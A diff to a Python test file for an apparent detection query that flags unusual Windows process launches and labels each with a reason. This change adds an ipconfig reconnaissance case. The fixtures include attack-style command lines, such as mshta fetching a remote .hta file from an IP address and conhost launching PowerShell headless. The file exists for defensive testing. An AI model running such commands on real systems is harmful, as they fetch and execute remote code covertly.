@@ -44,6 +44,7 @@ def launches() -> list[dict]:
         task_start("dcu.exe", "dcu.exe /scan", r"C:\Program Files\Dell\dcu.exe", device="pc-big", pid=32),
         # System32 programs the published query drops.
         task_start("mshta.exe", "mshta.exe http://198.51.100.7/a.hta", SYSTEM32 + "mshta.exe", device="pc-1", pid=41),
+        task_start("ipconfig.exe", "ipconfig.exe", SYSTEM32 + "ipconfig.exe", device="pc-1", pid=47, account="alice"),
         task_start("conhost.exe", "conhost.exe --headless powershell -c Get-Date", SYSTEM32 + "conhost.exe",
                    device="pc-1", pid=42),
         task_start("conhost.exe", "conhost.exe 0xffffffff -ForceV1", SYSTEM32 + "conhost.exe", device="pc-1", pid=43),
@@ -106,6 +107,7 @@ def test_the_extended_scope_takes_each_launch_path_and_says_why():
         ("vdi-1", "sync.exe"): "grouped_svchost",
         ("pc-big", "dcu.exe"): "published",
         ("pc-1", "mshta.exe"): "system32_lolbin",
+        ("pc-1", "ipconfig.exe"): "system32_recon",
         ("pc-1", "conhost.exe"): "headless_conhost",
         ("pc-1", "svc.exe"): "user_writable_system32",
         ("pc-1", "MpCmdRun.exe"): "scanner_outside_home",
@@ -146,6 +148,7 @@ def test_the_scope_shows_as_reasons():
     assert "launched_by_taskeng" in rare.loc["cmd.exe", "Reasons"]
     assert "launched_by_grouped_svchost" in rare.loc["sync.exe", "Reasons"]
     assert "system32_lolbin" in rare.loc["mshta.exe", "Reasons"]
+    assert "system32_recon" in rare.loc["ipconfig.exe", "Reasons"]
     assert "user_writable_system32" in rare.loc["svc.exe", "Reasons"]
     assert "scanner_outside_home" in rare.loc["MpCmdRun.exe", "Reasons"]
     assert rare.loc["cmd.exe", "TaskHosts"] == ["taskeng"]
